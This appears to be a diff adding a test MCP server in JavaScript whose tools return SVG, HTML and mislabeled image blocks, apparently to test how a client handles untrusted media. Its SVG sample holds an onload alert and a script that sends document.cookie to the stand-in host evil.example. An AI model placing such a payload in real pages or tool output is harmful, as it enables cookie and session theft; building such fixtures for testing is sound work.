@@ -1,0 +1,55 @@
+// An MCP server over stdio (raw JSON-RPC) whose tools return SVG and lying image media types.
+// Each tool returns one content block; see MEDIA below.
+import { gzipSync } from 'node:zlib';
+
+const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10" fill="red"/></svg>';
+const PROLOG_SVG = '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg viewBox="0 0 1 1"><title>café</title></svg>';
+const b64 = (text) => Buffer.from(text, 'utf8').toString('base64');
+const image = (data, mimeType) => ({ type: 'image', data, mimeType });
+const MEDIA = {
+  svg: image(b64(SVG), 'image/svg+xml'),
+  svg_params: image(b64(SVG), 'IMAGE/SVG+XML; charset=utf-8'),
+  svg_prolog: image(b64(PROLOG_SVG), 'image/svg+xml'),
+  svg_line_breaks: image(b64(SVG).replace(/(.{60})/g, '$1\n'), 'image/svg+xml'),
+  svg_resource: { type: 'resource', resource: { uri: 'file:///icons/logo.svg', mimeType: 'image/svg+xml', blob: b64(SVG) } },
+  svg_as_audio: { type: 'audio', data: b64(SVG), mimeType: 'image/svg+xml' },
+  png_claiming_svg: image(PNG, 'image/svg+xml'),
+  png_with_params: image(PNG, ' Image/PNG ; name="x.png"'),
+  svg_claiming_png: image(b64(SVG), 'image/png'),
+  svg_claiming_bmp: image(b64(SVG), 'image/bmp'),
+  svg_not_base64: image(SVG, 'image/svg+xml'),
+  svg_gzip: image(gzipSync(Buffer.from(SVG)).toString('base64'), 'image/svg+xml'),
+  svg_html: image(b64('<html><body><script>alert(1)</script></body></html>'), 'image/svg+xml'),
+  svg_binary: image(Buffer.from([0x00, 0xff, 0xfe, 0x3c, 0x73, 0x76, 0x67]).toString('base64'), 'image/svg+xml'),
+  svg_huge: image(b64(`<svg>${' '.repeat(6 * 1024 * 1024)}</svg>`), 'image/svg+xml'),
+  svg_bad_type: image(b64(SVG), 'image/svg+xml/extra'),
+};
+
+const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
+function handle({ id, method, params }) {
+  switch (method) {
+    case 'initialize':
+      return send({ id, result: { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: 'media', version: '1.0.0' } } });
+    case 'tools/list':
+      return send({ id, result: { tools: Object.keys(MEDIA).map((name) => ({ name, description: `returns ${name}`, inputSchema: { type: 'object' } })) } });
+    case 'tools/call':
+      return send({ id, result: { content: [{ type: 'text', text: `${params.name}:` }, MEDIA[params.name]] } });
+    case 'ping':
+      return send({ id, result: {} });
+    default:
+      if (id !== undefined) send({ id, error: { code: -32601, message: 'method not found' } });
+  }
+}
+let buffer = '';
+process.stdin.setEncoding('utf8');
+process.stdin.on('data', (chunk) => {
+  buffer += chunk;
+  let newline;
+  while ((newline = buffer.indexOf('\n')) !== -1) {
+    const line = buffer.slice(0, newline);
+    buffer = buffer.slice(newline + 1);
+    if (line.trim()) handle(JSON.parse(line));
+  }
+});
+process.stdin.on('end', () => process.exit(0));
